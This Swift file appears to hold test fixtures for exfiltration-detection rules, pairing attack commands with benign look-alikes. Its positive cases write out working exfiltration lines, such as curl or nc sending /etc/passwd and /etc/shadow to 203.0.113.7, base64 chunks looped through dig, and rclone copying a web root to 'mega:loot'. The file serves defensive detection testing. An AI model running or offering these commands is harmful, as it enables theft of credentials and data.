import MamoriEvents

extension Fixtures {
    static let exfiltration: [RuleFixture] = [
        RuleFixture("http-upload-of-local-file",
            positives: [
                Case("curl -T an archive", Actor(Proc.line("/usr/bin/curl", "curl -T /var/backups/db.tar.gz https://203.0.113.7/up/"), in: Trees.rootLogin).exec()),
                Case("curl -F file=@/etc/passwd", Actor(Proc.line("/usr/bin/curl", "curl -s -F file=@/etc/passwd http://203.0.113.7/u", uid: 33), in: Trees.webShell).exec(stdin: .fifo, stdout: .fifo)),
                Case("wget --post-file", Actor(Proc.line("/usr/bin/wget", "wget --post-file=/etc/hosts http://203.0.113.7/"), in: Trees.rootLogin).exec()),
            ],
            negatives: [
                Case("JSON POST", Actor(Proc("/usr/bin/curl", ["curl", "-s", "-d", "{\"a\":1}", "https://api.example.com/v1/x"]), in: Trees.rootLogin).exec()),
                Case("upload to localhost", Actor(Proc.line("/usr/bin/curl", "curl -T build.tgz http://localhost:8081/repository/raw/"), in: Trees.rootLogin).exec()),
            ]),

        RuleFixture("data-piped-to-raw-socket",
            positives: [
                Case("tar | nc", Actor(Proc.shell("tar czf - /etc | nc 203.0.113.7 9000"), in: Trees.rootLogin).exec()),
                Case("nc < /etc/shadow", Actor(Proc.shell("nc 203.0.113.7 9000 < /etc/shadow"), in: Trees.rootLogin).exec()),
            ],
            negatives: [
                Case("tar | ssh", Actor(Proc.shell("tar czf - /etc | ssh backup@10.0.0.50 'cat > etc.tgz'"), in: Trees.rootLogin).exec()),
            ]),

        RuleFixture("dns-exfiltration-pattern",
            positives: [
                Case("dig of a 40-character encoded label", Actor(Proc.line("/usr/bin/dig", "dig +short NBSWY3DPEB3W64TMMQQHEZLGMVZGK3TDMVSGC5DB.x.example.com"), in: Trees.rootLogin).exec()),
                Case("chunks of base64 looped into dig", Actor(Proc.shell("base64 -w0 /etc/passwd | fold -w 60 | while read l; do dig $l.x.example.com; done", exe: "/usr/bin/bash"), in: Trees.rootLogin).exec()),
            ],
            negatives: [
                Case("ordinary lookup", Actor(Proc.line("/usr/bin/dig", "dig +short www.example.com"), in: Trees.rootLogin).exec()),
                Case("DKIM selector lookup", Actor(Proc.line("/usr/bin/dig", "dig TXT selector1._domainkey.example.com"), in: Trees.rootLogin).exec()),
            ]),

        RuleFixture("cloud-storage-upload",
            positives: [
                Case("rclone copy of the web root", Actor(Proc.line("/usr/bin/rclone", "rclone copy /var/www mega:loot"), in: Trees.rootLogin).exec()),
                Case("upload to transfer.sh", Actor(Proc.line("/usr/bin/curl", "curl --upload-file /tmp/d.tgz https://transfer.sh/d.tgz"), in: Trees.rootLogin).exec(),
                     also: ["http-upload-of-local-file", "archive-uploaded-over-http"]),
            ],
            negatives: [
                Case("scheduled rclone backup", Actor(Proc.line("/usr/bin/rclone", "rclone sync /srv/data s3:backups/data"), in: Trees.unit("rclone-backup.service", Proc("/usr/bin/bash", ["/bin/bash", "/usr/local/bin/offsite.sh"]))).exec()),
                Case("listing a remote", Actor(Proc.line("/usr/bin/rclone", "rclone ls s3:backups"), in: Trees.rootLogin).exec()),
            ]),

        RuleFixture("sensitive-files-copied-to-remote-host",
            positives: [
                Case("scp of a database dump", Actor(Proc.line("/usr/bin/scp", "scp /root/shop.sql.gz x@198.51.100.23:/tmp/"), in: Trees.rootLogin).exec(), also: ["tool-pushed-to-remote-temp"]),
                Case("rsync of staged loot", Actor(Proc.line("/usr/bin/rsync", "rsync -az /dev/shm/.l/out.tgz 198.51.100.23:"), in: Trees.rootLogin).exec()),
            ],
            negatives: [
                Case("deploying application code", Actor(Proc.line("/usr/bin/rsync", "rsync -az --delete /srv/app/ deploy@web2.internal:/srv/app/"), in: Trees.rootLogin).exec()),
                Case("fetching a file from a remote host", Actor(Proc.line("/usr/bin/scp", "scp backup@10.0.0.50:/srv/backup/db.sql /root/restore/"), in: Trees.rootLogin).exec()),
            ]),
    ]
}
